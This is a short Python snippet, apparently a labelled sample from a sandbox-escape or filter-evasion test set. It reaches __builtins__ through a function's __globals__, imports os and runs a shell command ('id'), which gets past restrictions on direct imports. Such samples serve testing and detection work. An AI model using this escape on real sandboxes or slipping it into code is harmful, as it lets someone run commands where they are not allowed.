# evasion: __globals__ reaches __builtins__
# grade: hard; does: shell
def f():
    pass
b = f.__globals__["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else b.__import__
imp("os").system("id")
